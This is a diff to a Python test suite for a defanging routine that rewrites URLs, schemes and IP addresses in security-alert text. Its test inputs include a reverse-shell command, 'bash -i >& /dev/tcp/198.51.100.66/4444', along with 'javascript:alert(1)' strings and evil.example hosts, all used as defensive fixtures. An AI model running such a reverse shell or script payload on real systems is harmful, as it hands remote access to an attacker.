@@ -129,6 +129,14 @@ HOSTILE: dict[str, Expect] = {
         grouped=("a=/x/login[.]microsoftonline[.]com",),
         subject=("a=/x/login[.]microsoftonline[.]com",),
     ),
+    "scheme_prefixes": Expect(
+        forbidden=("https://", "http://", "javascript:", "ftp://"),
+        single=(
+            "+hxxps[://]3232235777/x .hxxps[://]3232235777/y +javascript[:]alert(1)",
+            "a[.]http[://]0x7f000001/ 1hxxps[://]evil[.]example/z x_ftp[://]files",
+        ),
+        grouped=("+hxxps[://]3232235777/x .hxxps[://]3232235777/y +javascript[:]alert(1)",),
+    ),
     "readable": Expect(
         forbidden=("AnomalousBehavior[.]", "libc[.]so", "m5[.]large", "payload[.]sh", "13[.]6", "00[.]000Z"),
         single=(
@@ -231,6 +239,13 @@ def test_resource_identifiers_are_defanged_in_the_subject_and_atop_both_bodies(n
         ("JaVaScRiPt:alert(1)", "JaVaScRiPt[:]alert(1)"),
         ("https:/evil.example", "hxxps[:/]evil[.]example"),
         ("s3://bucket.evil.example/k", "s3[://]bucket[.]evil[.]example/k"),
+        # ... whatever comes before them (a linkifier starts a URL there too)
+        ("+https://3232235777/x .https://3232235777/y", "+hxxps[://]3232235777/x .hxxps[://]3232235777/y"),
+        ("a.http://0x7f000001/ 1https://x a_ftp://y", "a[.]http[://]0x7f000001/ 1hxxps[://]x a_ftp[://]y"),
+        ("+javascript:alert(1) 1data:text/html,x", "+javascript[:]alert(1) 1data[:]text/html,x"),
+        ("git+https://x.example +ssh://y", "git+hxxps[://]x[.]example +ssh[://]y"),
+        ("metadata: x, profile:/y", "metadata: x, profile[:/]y"),  # inside a word: not a scheme, but :/ is
+        ("a.FTP:x1.example evil.news:443", "a[.]FTP[:]x1[.]example evil[.]news[:]443"),  # a run ending in one
         # readable: not hostnames
         ("UnauthorizedAccess:EC2/SSHBruteForce", "UnauthorizedAccess:EC2/SSHBruteForce"),
         # GuardDuty's own dotted names are readable in a finding type only (.direct is a real TLD)
@@ -250,6 +265,9 @@ def test_resource_identifiers_are_defanged_in_the_subject_and_atop_both_bodies(n
         ("m5.large c6gn.16xlarge t2.micro", "m5.large c6gn.16xlarge t2.micro"),
         ("Python/3.11.4 Linux/5.10.186-179.751.amzn2.x86_64", "Python/3.11.4 Linux/5.10.186-179.751.amzn2.x86_64"),
         ("2026-11-20T09:50:00.000Z", "2026-11-20T09:50:00.000Z"),
+        # a user agent's four-part version is no address; an address after a path still is
+        ("Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36", "Mozilla/5.0 (X11) Chrome/120.0.0.0 Safari/537.36"),
+        ("bash -i >& /dev/tcp/198.51.100.66/4444", "bash -i >& /dev/tcp/198.51.100[.]66/4444"),
         ("しました。AWS", "しました。AWS"),  # Japanese prose: the ideographic full stop ends a sentence
     ],
 )
